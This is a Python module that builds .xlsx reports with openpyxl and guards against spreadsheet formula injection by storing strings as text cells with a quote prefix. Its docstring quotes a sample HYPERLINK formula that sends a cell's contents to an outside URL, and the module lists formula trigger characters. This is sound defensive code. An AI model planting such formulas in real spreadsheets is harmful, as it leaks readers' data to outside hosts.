"""Excel writer shared by every report: a title row, a header row, data rows; and :func:`put`, the one
way any .xlsx of the platform writes a cell.

Spreadsheet formula injection (OWASP "CSV Injection", CWE-1236): a title typed as
``=HYPERLINK("http://…"&B3,"点击核对")`` must reach the reader as that text, not as a live formula.
openpyxl stores a string that starts with ``=`` as a formula, so :func:`put` forces every string to a
text cell (``t="s"``, no ``<f>`` element); and a string that a spreadsheet would take for a formula
once the reader edits the cell (``= + - @``, or a leading tab / CR, as the OWASP list has it) also
gets the quote prefix (Excel's leading apostrophe), so it stays text after editing too. Characters
XML 1.0 cannot carry are dropped (:func:`yangguang.core.text.xml_safe`): openpyxl refuses them and one
stored control character would otherwise break the whole export.
"""

from collections.abc import Iterable, Sequence
from io import BytesIO

from openpyxl import Workbook
from openpyxl.cell.cell import Cell
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from yangguang.core.text import xml_safe

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def put(ws: Worksheet, row: int, column: int, value) -> Cell:
    """Write ``value`` into the cell at (row, column): numbers and dates as they are, strings as text."""
    cell = ws.cell(row=row, column=column)
    if isinstance(value, str):
        text = xml_safe(value)
        cell.value = text
        cell.data_type = "s"  # never "f": the text is shown, not evaluated
        if text.startswith(FORMULA_TRIGGERS):
            cell.quotePrefix = True
    else:
        cell.value = value
    return cell


def table_to_xlsx(title: str, headers: Sequence[str], rows: Iterable[Sequence], sheet: str = "Sheet1") -> bytes:
    wb = Workbook(write_only=False)
    ws = wb.active
    ws.title = sheet[:31]
    put(ws, 1, 1, title)
    ws.merge_cells(start_row=1, start_column=1, end_row=1, end_column=max(1, len(headers)))
    ws["A1"].font = Font(bold=True, size=14)
    ws["A1"].alignment = Alignment(horizontal="center")
    for column, header in enumerate(headers, start=1):
        cell = put(ws, 2, column, header)
        cell.font = Font(bold=True)
        cell.fill = PatternFill("solid", fgColor="DDE6F0")
    widths = [len(str(h)) * 2 + 2 for h in headers]
    row_no = 2
    for row in rows:
        row_no += 1
        values = ["" if v is None else v for v in row]
        for column, value in enumerate(values, start=1):
            put(ws, row_no, column, value)
        for i, v in enumerate(values[: len(widths)]):
            widths[i] = min(60, max(widths[i], len(str(v)) + 2))
    for i, w in enumerate(widths, start=1):
        ws.column_dimensions[get_column_letter(i)].width = w
    ws.freeze_panes = "A3"
    buf = BytesIO()
    wb.save(buf)
    return buf.getvalue()
